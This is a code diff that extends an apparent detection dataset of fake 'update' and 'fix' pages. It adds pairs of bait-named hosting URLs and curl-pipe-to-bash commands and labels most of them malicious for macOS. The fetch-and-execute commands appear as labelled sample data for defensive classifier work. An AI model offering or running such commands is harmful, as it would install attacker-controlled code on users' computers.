@@ -478,7 +478,32 @@ TENANT_BRANDS = (
         "bash <(curl -fsSL https://ledger-live-update.netlify.app/u.sh)",
     ),
 )
+# …or named like a fake fix or update page: a bait word beside a platform's
+TENANT_FIX = (
+    (
+        "https://browser-update.netlify.app/",
+        "curl -fsSL https://browser-update.netlify.app/u.sh | bash",
+    ),
+    ("https://mac-fix.pages.dev/", "curl -fsSL https://mac-fix.pages.dev/fix.sh | bash"),
+    (
+        "https://pc-repair-tool.vercel.app/start",
+        "curl -fsSL https://pc-repair-tool.vercel.app/r.sh | sh",
+    ),
+    (
+        "https://chrome-security-update.web.app/",
+        'bash -c "$(curl -fsSL https://chrome-security-update.web.app/s)"',
+    ),
+    (
+        "https://macos-recovery-help.pages.dev/",
+        "curl -so /tmp/r https://macos-recovery-help.pages.dev/r && chmod +x /tmp/r && /tmp/r",
+    ),
+)
 TENANT_QUIET = (
+    ("https://fix-lint.pages.dev/docs", "curl -fsSL https://fix-lint.pages.dev/install.sh | sh"),
+    (
+        "https://mac-dotfiles.netlify.app/",
+        "curl -fsSL https://mac-dotfiles.netlify.app/install.sh | bash",
+    ),
     (
         "https://loamdb.pages.dev/docs/install",
         "curl -fsSL https://loamdb.pages.dev/install.sh | sh",
@@ -619,6 +644,8 @@ def build() -> list[dict[str, str]]:
 
     for source, text in TENANT_BRANDS:
         both("tenant-brand", text, "malicious", source, "macos")
+    for source, text in TENANT_FIX:
+        both("tenant-fix-name", text, "malicious", source, "macos")
     for source, text in TENANT_QUIET:
         book.add("tenant-brand", text, "not_flagged", "any", "terminal", source)
 
